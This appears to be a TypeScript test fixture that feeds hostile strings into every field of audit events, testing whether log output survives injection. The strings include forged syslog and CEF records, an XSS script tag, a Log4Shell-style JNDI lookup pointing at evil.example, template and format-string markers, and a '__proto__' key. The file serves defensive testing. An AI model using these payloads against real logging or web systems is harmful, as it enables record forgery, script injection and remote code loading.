import type { AuditEvent } from '../../src/model/audit-event.js';
import { sampleEvent } from './sample-events.js';

/** Text that tries to break out of a field, to forge a record or to split a character. The name says what it tries. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'line-breaks': 'first\nsecond\r\nthird\rfourth\vfifth\fsixth\u0085seventh',
  'unicode-line-breaks': 'first\u2028second\u2029third',
  'nul-and-escape': 'a\u0000b\u001b[31mred\u001b[0m\u0007\u0008\u007f\u009b1m',
  'forged-frame': 'x\n<13>1 2025-01-01T00:00:00Z evil evil - - - forged',
  'forged-frame-3164': 'x\n<13>Jan  1 00:00:00 evil su: forged',
  'forged-octet-count': 'x\n57 <13>1 2025-01-01T00:00:00Z evil evil - - - forged by count',
  'forged-cef': 'CEF:0|Evil|Evil|1|666|Forged|10|msg=forged',
  'forged-cef-line': 'x\nCEF:0|Evil|Evil|1|666|Forged|10|msg=forged',
  'forged-cef-pairs': 'x outcome=failure externalId=forged act=forged',
  'forged-structured-data': '"] [evil@1 id="forged" seq="0.0"] forged',
  'forged-trailer': 'x id=forged type=forged seq=0.0',
  'forged-json': '","id":"forged","sequence":"0.0","x":"',
  pipes: '|a|b\\|c||',
  'equal-signs': '=a=b\\=c==',
  backslashes: '\\a\\\\b\\n\\',
  quotes: '"a""b\\"c"',
  brackets: ']a[b]]c\\]',
  'only-backslash': '\\',
  'trailing-escape': 'ends with \\',
  tabs: '\ta\tb\t',
  spaces: '   spaces   around   ',
  empty: '',
  'only-controls': '\u0000\n\r',
  emoji: '😀 👩‍👩‍👧‍👦 🏳️‍🌈 𝔘𝔫𝔦',
  'right-to-left': 'مرحبا \u202egnp.exe\u202c \u2066שלום\u2069',
  'lone-surrogates': 'a\ud800b\udc00c\udfff',
  'byte-order-marks': '\ufeffa\ufffeb\uffff',
  combining: 'Z̸̢̛̮a̷l̵g̶o̴ ño\u0301',
  html: '<script>alert(1)</script>&amp;\'";--',
  template: '${jndi:ldap://evil.example/a} %s %n {{7*7}} #{x}',
  prototype: '__proto__',
  'number-like': '0x1F 1e309 NaN -0',
};

/** Values far beyond every limit, with borders that cut inside a character or an escape when they are cut blindly. */
export const HUGE_TEXTS: Readonly<Record<string, string>> = {
  'huge-ascii': 'a'.repeat(70_000),
  'huge-emoji': '😀'.repeat(17_500),
  'huge-umlauts': `x${'ü'.repeat(35_000)}`,
  'huge-escapes': '\\"]=|\n'.repeat(11_700),
  'huge-controls': '\u0001'.repeat(70_000),
};

type Place = (event: AuditEvent, text: string) => void;

/** Every field whose text a producer controls. */
export const HOSTILE_PLACES: Readonly<Record<string, Place>> = {
  tenantId: (event, text) => { event.tenantId = text; },
  'actor.id': (event, text) => { event.actor.id = text; },
  'actor.name': (event, text) => { event.actor.name = text; },
  'actor.ip': (event, text) => { event.actor.ip = text; },
  'subject.kind': (event, text) => { event.subject.kind = text; },
  'subject.id': (event, text) => { event.subject.id = text; },
  'subject.name': (event, text) => { event.subject.name = text; },
  'subject.detail': (event, text) => { event.subject.detail = text; },
  'objects.name': (event, text) => { event.objects.push({ kind: 'account', id: text, name: text, detail: text }); },
  reason: (event, text) => { event.reason = text; },
  correlationId: (event, text) => { event.correlationId = text; },
  message: (event, text) => { event.message = text; },
  'attributes.known': (event, text) => { Object.assign(event.attributes, { domain: text, request: text, template: text, step: text, owner: text, action: text, dueDate: text, errorCode: text, mailOutcome: text, requester: text }); },
  'attributes.lists': (event, text) => { Object.assign(event.attributes, { items: [text, 'plain', text], added: [text], removed: [text], approvers: [text] }); },
  'attributes.name': (event, text) => { event.attributes = { ...event.attributes, [`own ${text}`]: 'value' }; },
  'attributes.nested': (event, text) => { event.attributes.nested = { deep: [{ deeper: text }] }; },
  'changes.field': (event, text) => { event.changes = [{ field: text, old: 'a', new: 'b' }]; },
  'changes.values': (event, text) => { event.changes = [{ field: 'state', old: text, new: [text, text] }]; },
};

/** An event whose fields named by `places` carry the text. The id is plain, as intake guarantees, and tells which case it is. */
export function hostileEvent(id: string, text: string, places: readonly string[] = Object.keys(HOSTILE_PLACES)): AuditEvent {
  const event = sampleEvent('request.state.changed');
  event.id = id;
  for (const place of places) HOSTILE_PLACES[place]?.(event, text);
  return event;
}

/**
 * The hostile corpus: each text in all fields at once, a mixture of all texts in each field alone, huge values in all fields, in the message alone and in the lists.
 * Ids are distinct and at most 40 octets.
 */
export function hostileEvents(): AuditEvent[] {
  const everything = Object.values(HOSTILE_TEXTS).join(' ');
  const manyItems = sampleEvent('group.external.disabled');
  manyItems.id = 'hostile-many-items';
  manyItems.attributes = { domain: 'corp', count: 5000, items: Array.from({ length: 5000 }, (_, index) => `group "${index}" = a|b\\]`) };
  return [
    ...Object.entries(HOSTILE_TEXTS).map(([name, text]) => hostileEvent(`hostile-${name}`, text)),
    ...Object.keys(HOSTILE_PLACES).map((place) => hostileEvent(`hostile-in-${place}`, everything, [place])),
    ...Object.entries(HUGE_TEXTS).map(([name, text]) => hostileEvent(`hostile-${name}`, text)),
    ...Object.entries(HUGE_TEXTS).map(([name, text]) => hostileEvent(`hostile-${name}-message`, text, ['message'])),
    ...Object.entries(HUGE_TEXTS).map(([name, text]) => hostileEvent(`hostile-${name}-lists`, text, ['attributes.lists'])),
    manyItems,
  ];
}
